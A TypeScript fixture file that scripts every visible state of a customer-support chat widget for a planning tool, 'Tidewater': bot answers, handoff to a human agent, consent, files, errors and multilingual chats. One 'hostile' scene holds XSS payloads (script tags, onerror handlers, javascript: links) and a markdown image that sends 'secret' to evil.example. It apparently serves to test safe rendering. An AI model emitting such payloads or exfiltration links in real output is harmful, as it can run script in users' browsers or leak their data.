import type { HandoffId, LogEvent, MessageId } from '@baton/shared-types';
import { log, SITE, SITE_DE, SITE_WITH_FILES } from './script-events.js';
import type { ScriptedClient } from './scripted-client.js';

type Scene = (client: ScriptedClient) => void;

const ANSWER =
  'Tidewater has three plans. For a team of 40 people the **Harbour** plan fits best:\n\n- unlimited projects and guests\n- import from spreadsheets and from most tools\n- support by people, weekdays from 8 to 18\n\nIt is billed per person and month. What are you using *today*?';

const CONVERSATION = [
  log.visitor('Hi! We are about 40 people and look for a planning tool.', { after: 0, minutesAgo: 9 }),
  log.visitor('What would Tidewater cost us?', { after: 1, minutesAgo: 9 }),
  log.assistant(ANSWER, {
    after: 2,
    minutesAgo: 8,
    citations: [
      { title: 'Plans and prices', url: 'https://tidewater.example/prices' },
      { title: 'Imports', url: null },
    ],
    quickReplies: ['Spreadsheets', 'Another planning tool', 'Nothing yet'],
  }),
] as const;

const WAITING: readonly LogEvent[] = [
  ...CONVERSATION,
  log.visitor('I would like to talk to a person.', { after: 3, minutesAgo: 6 }),
  log.handoffRequested({ after: 4, minutesAgo: 6 }),
  log.queued({ after: 5, minutesAgo: 6 }),
  log.assistant('I am asking the team. It usually takes less than **two minutes**; you can go on writing.', {
    after: 6,
    minutesAgo: 6,
  }),
];

const WITH_AGENT: readonly LogEvent[] = [
  ...WAITING,
  log.accepted({ after: 7, minutesAgo: 4 }),
  log.owned({ after: 8, minutesAgo: 4 }),
  log.agent('Hello, this is Mara. I have read what you wrote: 40 people, moving from spreadsheets.', {
    after: 9,
    minutesAgo: 3,
  }),
  log.agent('Shall we look at the import together? I can show you in ten minutes.', {
    after: 10,
    minutesAgo: 3,
  }),
  log.visitor('Yes, that would be great!', { after: 11, minutesAgo: 1 }),
];

/** A question about a slot, with the field that belongs to it. */
const asking =
  (slot: string, question: string): Scene =>
  (client) =>
    client.play([
      log.visitor('What would Tidewater cost us?', { after: 0, minutesAgo: 3 }),
      log.assistant(question, { after: 1, minutesAgo: 2, asks: slot }),
    ]);

/** The question for consent, answered or not. */
const consent =
  (granted: boolean | null): Scene =>
  (client) =>
    client.set({ session: { ...SITE, consent: { ...CONSENT, granted } } });

const CONSENT = {
  version: '0123456789ab',
  text: 'Tidewater keeps what you write here for 90 days, to answer you and to improve its help. The chat is answered by an automated assistant first.',
  link: 'https://tidewater.example/privacy',
};

/** Tomorrow at nine. */
function nextNine(): string {
  const at = new Date(Date.now() + 86_400_000);
  at.setHours(9, 0, 0, 0);
  return at.toISOString();
}

const LONG_WORD = 'https://tidewater.example/'.padEnd(180, 'a-very-long-path/');

/** Every visible state of the chat, by name. */
export const SCENES: Readonly<Record<string, Scene>> = {
  empty: () => undefined,
  conversation: (client) => client.play(CONVERSATION),
  streaming(client) {
    client.play([...CONVERSATION.slice(0, 2)]);
    client.set({ streaming: { messageId: 'msg_3' as MessageId, text: ANSWER.slice(0, 190) } });
  },
  typing(client) {
    client.play([...CONVERSATION.slice(0, 2)]);
    client.set({ peerTyping: { who: 'assistant', name: null } });
  },
  waiting: (client) => {
    client.play(WAITING);
    const handoffId: HandoffId = 'hnd_00000000000000000000000001' as HandoffId;
    const place = { handoffId, position: 2, waitSeconds: 170, promisedBy: null, peopleThere: 3 } as const;
    client.set({ place });
  },
  unattended: (client) => client.play([...WAITING, log.expired({ after: 7 })]),
  agent(client) {
    client.play(WITH_AGENT);
    client.set({ peerTyping: { who: 'agent', name: 'Mara Lindqvist' } });
  },
  interrupted: (client) =>
    client.play([
      ...CONVERSATION.slice(0, 2),
      log.assistant('Tidewater has three plans. For a team of 40', { after: 2, interrupted: true }),
      log.accepted({ after: 3 }),
      log.owned({ after: 4 }),
      log.agent('Hello, Mara here, a real person. I can tell you right away.', { after: 5 }),
    ]),
  closed: (client) => client.play([...WITH_AGENT, log.closed({ after: 12 })]),
  failed(client) {
    client.play([...CONVERSATION]);
    client.set({
      pending: [
        { clientId: 'a', text: 'We use spreadsheets.', kind: 'text', state: 'failed', error: null },
        { clientId: 'b', text: 'About 30 of them, to be honest.', kind: 'text', state: 'sent', error: null },
      ],
    });
  },
  reconnecting(client) {
    client.play([...CONVERSATION]);
    client.set({
      connection: { kind: 'waiting', retryAt: Date.now() + 4_000, attempt: 2 },
      pending: [{ clientId: 'a', text: 'We use spreadsheets.', kind: 'text', state: 'queued', error: null }],
    });
  },
  unreachable: (client) =>
    client.set({ session: null, connection: { kind: 'waiting', retryAt: Date.now() + 4_000, attempt: 3 } }),
  consent: consent(null),
  'consent-refused': consent(false),
  'consent-granted': consent(true),
  away: (client) => client.set({ session: { ...SITE, away: { backAt: nextNine() } } }),
  'away-unknown'(client) {
    client.set({ session: { ...SITE, away: { backAt: null } } });
    client.play(CONVERSATION);
  },
  'own-words': (client) =>
    client.set({
      session: {
        ...SITE,
        site: {
          ...SITE.site,
          texts: {
            write: 'Ask us anything about planning…',
            person: 'Get a human',
            assistantRole: 'Our robot',
          },
        },
      },
    }),
  loading: (client) => client.set({ session: null, connection: { kind: 'connecting' } }),
  stopped: (client) =>
    client.set({
      session: null,
      connection: { kind: 'stopped', error: { code: 'site_refused', message: '' } },
    }),
  outdated(client) {
    client.play([...CONVERSATION]);
    client.set({ connection: { kind: 'stopped', error: { code: 'protocol_unsupported', message: '' } } });
  },
  'ask-email': asking('email', 'Where can we reach you?'),
  'ask-phone': asking('phone', 'Which number may we call?'),
  'ask-date': asking('timeline', 'When would you like to start?'),
  'ask-number': asking('team_size', 'How many people are you?'),
  'ask-choice': asking('current_tool', 'What do you use today?'),
  'ask-rating': asking('fit', 'How well does that fit?'),
  'ask-file'(client) {
    client.set({ session: SITE_WITH_FILES });
    asking('plan', 'Can you send us the plan that you use today?')(client);
  },
  files(client) {
    client.set({ session: SITE_WITH_FILES });
    const pdf = { type: 'application/pdf', width: null, height: null } as const;
    const photo = {
      name: 'Our wall.jpg',
      type: 'image/jpeg',
      size: 482_113,
      width: 4_032,
      height: 3_024,
    } as const;
    client.play([
      ...WITH_AGENT,
      log.file('visitor', photo, { after: 12, minutesAgo: 2 }),
      log.file('visitor', { ...pdf, name: 'عرض السعر.pdf', size: 20_480 }, { after: 13, minutesAgo: 2 }),
      log.file(
        'agent',
        { ...pdf, name: 'Offer for forty people, import from spreadsheets included.pdf', size: 2_411_724 },
        { after: 14, minutesAgo: 1 },
      ),
    ]);
  },
  rated: (client) =>
    client.play([...WITH_AGENT, log.closed({ after: 12 }), log.rated({ after: 13 }, 4, null)]),
  unverified: (client) =>
    client.set({
      session: null,
      connection: { kind: 'stopped', error: { code: 'identity_required', message: '' } },
    }),
  endless: (client) =>
    client.play(
      Array.from({ length: 2_000 }, (_, n) =>
        n % 2 === 0
          ? log.visitor(`Line ${n} of a very long chat`, { after: n, minutesAgo: 3_000 - n })
          : log.assistant(`An answer with **bold** words and [a link](https://tidewater.example/${n})`, {
              after: n,
              minutesAgo: 3_000 - n,
            }),
      ),
    ),
  long: (client) =>
    client.play([
      log.visitor(
        `${LONG_WORD} ${'We plan the work of many teams in many places. '.repeat(80)}`.slice(0, 4_000),
        {
          after: 0,
          minutesAgo: 3,
        },
      ),
      log.assistant(
        `Here it is: ${LONG_WORD}\n\n${'1. One more step, described at length so that it wraps.\n'.repeat(12)}`,
        {
          after: 1,
        },
      ),
    ]),
  hostile: (client) =>
    client.play([
      log.visitor('<img src=x onerror=alert(1)> <b>bold?</b>', { after: 0, minutesAgo: 3 }),
      log.assistant(
        '<script>alert(1)</script> [click](javascript:alert(1)) ![pixel](https://evil.example/?q=secret) [ok](https://tidewater.example)',
        { after: 1, citations: [{ title: 'Bad source', url: 'javascript:alert(1)' }] },
      ),
    ]),
  german: (client) => {
    client.set({ session: SITE_DE });
    client.play([
      log.visitor('Guten Tag, wir sind etwa 40 Leute. Was würde Tidewater kosten?', {
        after: 0,
        minutesAgo: 4,
      }),
      log.assistant('Für 40 Personen passt der Tarif **Hafen** am besten. Womit planen Sie heute?', {
        after: 1,
        minutesAgo: 3,
        quickReplies: ['Tabellen', 'Ein anderes Werkzeug', 'Noch gar nicht'],
      }),
    ]);
  },
  arabic: (client) =>
    client.play([
      log.visitor('مرحبًا، نحن أربعون شخصًا. كم يكلف Tidewater؟', { after: 0, minutesAgo: 4 }),
      log.assistant('أهلًا بك! خطة **Harbour** هي الأنسب لكم.', {
        after: 1,
        quickReplies: ['جداول', 'أداة أخرى'],
      }),
    ]),
};
